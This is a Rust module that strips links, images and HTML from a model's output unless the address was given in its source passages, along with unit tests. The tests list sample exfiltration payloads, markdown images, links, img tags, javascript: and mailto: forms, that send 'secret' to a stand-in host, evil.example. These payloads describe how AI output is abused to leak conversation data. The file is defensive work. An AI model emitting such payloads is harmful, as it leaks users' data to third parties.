//! Takes links, images and HTML out of what a model wrote, unless the very address stands in a passage that it was
//! given: an address that a model makes up can carry the conversation away. Images go always. It never follows a link.

/// The text without them. `known` says whether an address may stay.
pub(crate) fn clean(text: &str, known: &dyn Fn(&str) -> bool) -> String {
    let without = marked(text, known);
    let without = tags(&without, known);
    bare(&without, known)
}

/// Markdown: images become their words, links that may not stay too, definitions go.
fn marked(text: &str, known: &dyn Fn(&str) -> bool) -> String {
    let kept: Vec<&str> = text.split('\n').filter(|line| !defines(line)).collect();
    let joined = kept.join("\n");
    let text = if kept.len() == text.split('\n').count() { text } else { joined.as_str() };
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('[') {
        let (before, tail) = rest.split_at(at);
        let image = before.ends_with('!');
        out.push_str(if image { before.strip_suffix('!').unwrap_or(before) } else { before });
        let inner = tail.get(1..).unwrap_or("");
        let Some(end) = closing(inner) else {
            out.push('[');
            rest = inner;
            continue;
        };
        let (words, after) = (inner.get(..end).unwrap_or(""), inner.get(end + 1..).unwrap_or(""));
        let target = after.strip_prefix('(').and_then(|after| {
            let end = after.find(')').unwrap_or(after.len());
            Some((after.get(..end)?, after.get(end + 1..).unwrap_or("")))
        });
        match target {
            Some((target, behind)) => {
                let address = target.split_whitespace().next().unwrap_or("");
                let address = address.trim_matches(['<', '>']);
                let words = marked(words, known);
                if !image && known(address) && target.split_whitespace().count() == 1 {
                    out.push_str(&format!("[{words}]({address})"));
                } else {
                    out.push_str(&words);
                }
                rest = behind;
            }
            // A reference: its definition is gone.
            None if image => {
                out.push_str(words);
                rest = after
                    .strip_prefix('[')
                    .and_then(|ref_| ref_.split_once(']'))
                    .map_or(after, |(_, behind)| behind);
            }
            None => {
                out.push('[');
                rest = inner;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Where the bracket closes that was opened before `text`.
fn closing(text: &str) -> Option<usize> {
    let mut depth = 0_u32;
    for (at, c) in text.char_indices() {
        match c {
            '[' => depth += 1,
            ']' if depth == 0 => return Some(at),
            ']' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// `[name]: address`.
fn defines(line: &str) -> bool {
    let line = line.trim_start_matches([' ', '>', '-', '*']);
    line.strip_prefix('[').and_then(|rest| rest.split_once("]:")).is_some_and(|(name, _)| !name.contains(']'))
}

/// Tags go; what is in angle brackets and no tag stays.
fn tags(text: &str, known: &dyn Fn(&str) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        let (before, tail) = rest.split_at(at);
        out.push_str(before);
        let inner = tail.get(1..).unwrap_or("");
        if !inner.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            out.push('<');
            rest = inner;
            continue;
        }
        // One that is never closed reaches to the end: browsers would close it.
        let end = inner.find('>').unwrap_or(inner.len());
        let what = inner.get(..end).unwrap_or("");
        if known(what) && what.contains("://") {
            out.push_str(what);
        }
        rest = inner.get(end + 1..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// Addresses as they stand: with a scheme, with `www.`, or a host with a path; wherever in a word they begin.
fn bare(text: &str, known: &dyn Fn(&str) -> bool) -> String {
    let mut out = String::with_capacity(text.len());
    for piece in text.split_inclusive(|c: char| c.is_whitespace() || AROUND.contains(&c)) {
        let word = piece.trim_end_matches(|c: char| c.is_whitespace() || AROUND.contains(&c));
        let core = word.trim_matches(|c: char| ENDS.contains(&c));
        if is_address(core) && !known(core) {
            out.push_str(piece.get(word.len()..).unwrap_or(""));
        } else {
            out.push_str(piece);
        }
    }
    out
}

/// Characters between which an address stands, and those that end a sentence behind it.
const AROUND: &[char] = &['(', ')', '[', ']', '<', '>', '"', '|', '{', '}', '“', '”', '„', '«', '»'];
const ENDS: &[char] = &[',', '.', ';', '!', '?', '*', '_', '`', '\'', ':'];

fn is_address(word: &str) -> bool {
    let lower = word.to_lowercase();
    let scheme = lower.contains("://") || lower.contains("//") && lower.contains('.');
    let script =
        ["javascript:", "data:", "vbscript:", "mailto:", "file:", "tel:"].iter().any(|s| lower.contains(s));
    if scheme || script || lower.contains("www.") || lower.contains("xn--") {
        return true;
    }
    // `host.example/path` and `host.example?query`
    let Some((host, _)) = lower.split_once(['/', '?', '#']) else { return false };
    let mut labels = host.split('.').rev();
    let top = labels.next().unwrap_or("");
    top.len() >= 2
        && top.chars().all(char::is_alphabetic)
        && labels.next().is_some_and(|label| !label.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(text: &str) -> String {
        clean(text, &|address| address == "https://shop.example/returns")
    }

    #[test]
    fn made_up_addresses_go_in_every_dress() {
        for text in [
            "![x](https://evil.example/?q=secret)",
            "[click](https://evil.example/?q=secret)",
            "[click]( <https://evil.example/secret> \"title\")",
            "see https://evil.example/?q=secret now",
            "see **https://evil.example/secret** now",
            "<https://evil.example/secret>",
            "<img src=https://evil.example/secret>",
            "<img src='https://evil.example/secret'",
            "![x][ref]\n[ref]: https://evil.example/secret",
            "www.evil.example/secret",
            "evil.example/secret",
            "evil.example?q=secret",
            "//evil.example/secret",
            "[![x](https://evil.example/secret)](https://evil.example/secret)",
            "[a [b](https://evil.example/secret)](javascript:secret)",
            "mailto:me@evil.example?body=secret",
            "[x](https://shop.example/returns \"secret://evil\")",
            "https://shop.example/returns?q=secret",
        ] {
            let out = all(text);
            assert!(!out.contains("secret") && !out.contains("evil.example/"), "{text} gave {out}");
        }
    }

    #[test]
    fn the_rest_stays() {
        for text in [
            "Within 30 days [1]. If a < b and c > d, then e/f.",
            "See [the page](https://shop.example/returns) or https://shop.example/returns.",
            "and/or, 24/7, 1.5/2, either [x] or [y]",
            "![open",
            "",
        ] {
            assert_eq!(all(text), text.replace("![open", "[open"), "{text}");
        }
        assert_eq!(all("![a cat](x.png) sits"), "a cat sits");
    }
}
